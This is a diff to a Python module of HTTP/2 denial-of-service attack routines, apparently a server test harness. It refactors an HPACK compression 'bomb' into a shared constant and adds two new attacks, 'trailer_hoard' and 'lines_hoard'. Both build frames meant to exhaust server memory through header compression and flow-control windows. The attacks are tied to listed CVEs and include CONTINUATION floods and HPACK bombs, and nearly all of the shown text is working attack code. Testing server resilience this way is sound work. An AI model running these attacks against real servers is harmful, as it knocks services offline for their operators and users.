@@ -862,6 +862,10 @@ def _endless_block(client: Attacker, fragment: bytes, count: int) -> None:
 FRAGMENT = (literal(b"a", b"b") * 4096)[:16380]
 
 
+# A line that fills most of a table of 4 096 octets, so that an octet refers to 3 900.
+BOMB = literal(b"bomb", b"x" * 3900, indexed=True)
+
+
 @attack
 def continuation_flood(target: Target) -> Outcome:
     """CVE-2024-27316, CVE-2024-24549, CVE-2024-28182: full CONTINUATIONs, END_HEADERS never."""
@@ -917,7 +921,7 @@ def continuation_after_reset(target: Target) -> Outcome:
 def hpack_bomb(target: Target) -> Outcome:
     """CVE-2016-6581: 16 000 references, an octet each, to one field line of 4 000 octets."""
     with Attacker(target) as client:
-        bomb = client.block("/healthz") + literal(b"bomb", bytes(b"x" * 3900), indexed=True)
+        bomb = client.block("/healthz") + BOMB
         client.send(HeadersFrame(client.next_id(), bomb, end_stream=True).encode())
         references = client.block("/healthz") + b"\xbe" * 16000
         for _ in range(4):
@@ -930,7 +934,7 @@ def hpack_bomb_below(target: Target) -> Outcome:
     """The same below 64 KiB a request, a thousand times: 40 octets each become 60 KiB."""
     with Attacker(target) as client:
         head = client.block("/healthz")
-        bomb = head + literal(b"bomb", bytes(b"x" * 3900), indexed=True)
+        bomb = head + BOMB
         client.send(HeadersFrame(client.next_id(), bomb, end_stream=True).encode())
         # Literals that do not enter the table, so that the line stays at its place there.
         plain = b"".join(literal(*line) for line in request_fields(target)) + b"\xbe" * 15
@@ -1077,13 +1081,48 @@ def section_hoard(target: Target) -> Outcome:
 
 def _ask_expanded(client: Attacker, path: str) -> None:
     """A hundred requests with field sections of 60 KiB, which are references but for one."""
-    line = literal(b"bomb", bytes(b"x" * 3900), indexed=True)
     plain = b"".join(literal(*field) for field in request_fields(client.target, path))
-    client.send(HeadersFrame(client.next_id(), plain + line, end_stream=True).encode())
+    client.send(HeadersFrame(client.next_id(), plain + BOMB, end_stream=True).encode())
     octets = plain + b"\xbe" * 15
     ids = [client.next_id() for _ in range(99)]
     frames = [HeadersFrame(stream_id, octets, end_stream=True).encode() for stream_id in ids]
     client.send(b"".join(frames), len(frames))
+
+
+@attack
+def trailer_hoard(target: Target) -> Outcome:
+    """Trailers that are large only when expanded, sent back by an /echo that no window lets out."""
+
+    def ask(client: Attacker) -> None:
+        plain = b"".join(literal(*field) for field in request_fields(target, "/echo"))
+        post = plain.replace(literal(b":method", b"GET"), literal(b":method", b"POST"))
+        client.send(HeadersFrame(client.next_id(), plain + BOMB, end_stream=True).encode())
+        for _ in range(99):
+            stream_id = client.next_id()
+            client.send(
+                HeadersFrame(stream_id, post).encode()
+                + DataFrame(stream_id, b"x").encode()
+                + HeadersFrame(stream_id, b"\xbe" * 16, end_stream=True).encode(),
+                3,
+            )
+
+    return _hoard(target, ask, connections=20)
+
+
+@attack
+def lines_hoard(target: Target) -> Outcome:
+    """Requests of 1 750 short field lines, whose answers wait for a window.
+
+    RFC 9113 counts 32 octets for what a line costs beside its own; objects cost more.
+    """
+
+    def ask(client: Attacker) -> None:
+        plain = b"".join(literal(*field) for field in request_fields(target, target.big))
+        octets = plain + literal(b"ab", b"cd") * 1750
+        for _ in range(60):
+            client.send(HeadersFrame(client.next_id(), octets, end_stream=True).encode())
+
+    return _hoard(target, ask, connections=3, patience=WORK_S)
 
 
 @attack
@@ -1104,7 +1143,12 @@ def upload_hoard(target: Target) -> Outcome:
     return outcome
 
 
-def _hoard(target: Target, ask: Callable[[Attacker], object], connections: int = 10) -> Outcome:
+def _hoard(
+    target: Target,
+    ask: Callable[[Attacker], object],
+    connections: int = 10,
+    patience: float = VERDICT_S,
+) -> Outcome:
     outcome = Outcome()
     with ExitStack() as stack:
         clients = [
@@ -1114,7 +1158,7 @@ def _hoard(target: Target, ask: Callable[[Attacker], object], connections: int =
             ask(client)
         clients[0].wait(0.5)
         for client in clients:
-            outcome.add(client.outcome())
+            outcome.add(client.outcome(patience=patience))
     return outcome
 
 
